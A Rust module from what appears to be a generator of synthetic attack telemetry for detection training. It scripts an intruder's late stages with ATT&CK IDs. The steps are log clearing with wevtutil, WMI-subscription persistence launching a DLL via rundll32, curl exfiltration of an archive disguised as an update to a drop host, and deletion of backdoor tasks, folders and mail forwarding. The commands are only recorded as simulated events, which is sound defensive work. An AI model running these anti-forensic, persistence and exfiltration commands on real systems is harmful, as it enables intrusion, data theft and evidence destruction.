//! How A covers its traces, comes back after months of silence, and leaves.

use super::super::chronicle::{Chronicle, Intruder};
use super::super::clock::{after, minutes};
use super::super::network::{APP01, BCK01, FS01, STAFF, SVC_BACKUP, SVC_SQL, UPDATES};
use super::super::relays::CERT_FR;
use super::super::security::Origin;
use super::super::sysmon::Launch;
use super::super::windows::Channel;
use super::super::zeek::Traffic;
use super::{BACKDOOR_FOLDER, BACKDOOR_TASK, CMD, DROP, at, deed, device_deed, mail_deed};

/// Does this part.
pub fn tell(c: &mut Chronicle) {
    clear_traces(c);
    come_back(c);
    leave(c);
}

fn clear_traces(c: &mut Chronicle) {
    let time = at(c, "2024-10-12T23:15:00Z");
    let account = SVC_BACKUP.account;
    let session = c.session(&SVC_BACKUP, &FS01).raised();
    let cmd = c.running(&session, CMD, "cmd.exe");
    let what = "The file server's security log is cleared.";
    c.step(deed("T1070.001", &FS01, account, what), |c| {
        let image = "C:\\Windows\\System32\\wevtutil.exe";
        c.start(time, &session, &cmd, Launch::of(image, "wevtutil  cl Security"));
        c.log_cleared(after(time, 140), &session, Channel::Security);
    });
    let what = "The file server's system log is cleared.";
    c.step(deed("T1070.001", &FS01, account, what), |c| {
        let time = after(time, 6_000);
        let image = "C:\\Windows\\System32\\wevtutil.exe";
        c.start(time, &session, &cmd, Launch::of(image, "wevtutil  cl System"));
        c.log_cleared(after(time, 150), &session, Channel::System);
    });
}

fn come_back(c: &mut Chronicle) {
    let time = at(c, "2025-02-08T22:55:00Z");
    let account = SVC_BACKUP.account;
    let session = c.session(&SVC_BACKUP, &BCK01).raised();
    let what = "After months of silence the backup's account logs on to its server at night, from \
                an address of the VPN.";
    c.step(deed("T1078.002", &BCK01, account, what), |c| {
        let inside = "10.20.60.44";
        c.came_by_vpn(after(time, -95_000), account, CERT_FR[0], inside);
        let origin = Origin { workstation: "-", address: inside, package: "Kerberos" };
        c.logged_on(time, &session, 3, origin);
    });
    let time = after(time, minutes(4));
    let what = "A WMI subscription starts a library whenever the server has run for minutes.";
    c.step(deed("T1546.003", &BCK01, account, what), |c| {
        let query = "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA \
                     'Win32_PerfFormattedData_PerfOS_System'";
        let command =
            "C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\Backup\\bkpsync.dll,Run";
        c.wmi_subscribed(time, &session, "BackupHealth", query, command);
    });
    let time = at(c, "2025-04-12T21:33:00Z");
    let what = "An archive is sent out with curl, under the name of an update.";
    c.step(deed("T1048.002", &BCK01, account, what), |c| {
        let cmd = c.running(&session, CMD, "cmd.exe");
        let image = "C:\\Windows\\System32\\curl.exe";
        let line = format!(
            "curl  -k -s -T C:\\ProgramData\\Backup\\kb5034.cab https://{}/u/kb5034.cab",
            DROP.0
        );
        let curl = c.start(time, &session, &cmd, Launch::of(image, &line));
        c.connected(after(time, 300), &curl, DROP, 443);
        let (sent, received) = (214_003_120, 880_000);
        let traffic = Traffic { service: "ssl", millis: 610_000, sent, received };
        let flow = c.flow(after(time, 310), BCK01.address, DROP.1, 443, traffic);
        c.shook_hands(&flow, DROP.0, "self signed certificate");
        c.sent_out(Intruder::A, &flow);
        let packed = (1_906, 402_118_310);
        c.took_files(Intruder::A, time, (&BCK01.fqdn(), "E:\\Archiv\\Spisovka"), packed);
    });
    // The last traffic looks like any update.
    let traffic = Traffic { service: "ssl", millis: 900, sent: 1_900, received: 8_000 };
    let flow = c.flow(after(time, minutes(30)), BCK01.address, UPDATES.1, 443, traffic);
    c.shook_hands(&flow, UPDATES.0, "ok");
}

/// What was put there is taken away again, before anybody looks.
fn leave(c: &mut Chronicle) {
    let time = at(c, "2025-04-18T21:05:00Z");
    let session = c.session(&SVC_SQL, &APP01).raised();
    let cmd = c.running(&session, CMD, "cmd.exe /Q /c dir");
    let account = SVC_SQL.account;
    c.step(deed("T1070.009", &APP01, account, "The backdoor's task is deleted."), |c| {
        let image = "C:\\Windows\\System32\\schtasks.exe";
        let line = format!("schtasks  /delete /f /tn \"{}\"", &BACKDOOR_TASK[1..]);
        c.start(time, &session, &cmd, Launch::of(image, &line));
    });
    c.step(deed("T1070.004", &APP01, account, "The backdoor's folder is deleted."), |c| {
        let line = format!("cmd.exe /Q /c rmdir /s /q {BACKDOOR_FOLDER}");
        c.start(after(time, 21_000), &session, &cmd, Launch::of(CMD, &line));
    });
    let time = after(time, minutes(31));
    let chief = &STAFF[1];
    let what = "The forwarding of the chief of cabinet's mail is taken back.";
    c.step(mail_deed("T1070.008", chief, what), |c| {
        let parameters = [
            ("Identity", chief.account),
            ("ForwardingSmtpAddress", ""),
            ("DeliverToMailboxAndForward", "False"),
        ];
        c.mail_command(time, chief, CERT_FR[6], "Set-Mailbox", &parameters);
    });
    let what = "The implant's unit and file are removed from the mail gateway, and its log is cut.";
    c.step(device_deed("T1070.002", "mx01.mzv.example", "root", what), |c| {
        super::gateway::clean(c, after(time, minutes(12)));
    });
}
